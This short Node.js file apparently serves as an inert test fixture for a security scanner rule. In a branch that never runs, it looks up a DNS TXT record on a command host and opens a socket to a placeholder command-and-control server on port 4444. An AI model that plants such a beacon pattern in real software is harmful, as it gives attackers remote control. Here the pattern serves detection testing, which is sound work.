// vouch rule fixture: inert.
const net = require('net');
const dns = require('dns');

function probe() {
  if (false) {
    dns.resolveTxt('cmd.example.invalid', () => {});
    const s = net.createConnection({ host: 'c2.example.invalid', port: 4444 });
    s.write('hello');
  }
}
module.exports = probe;
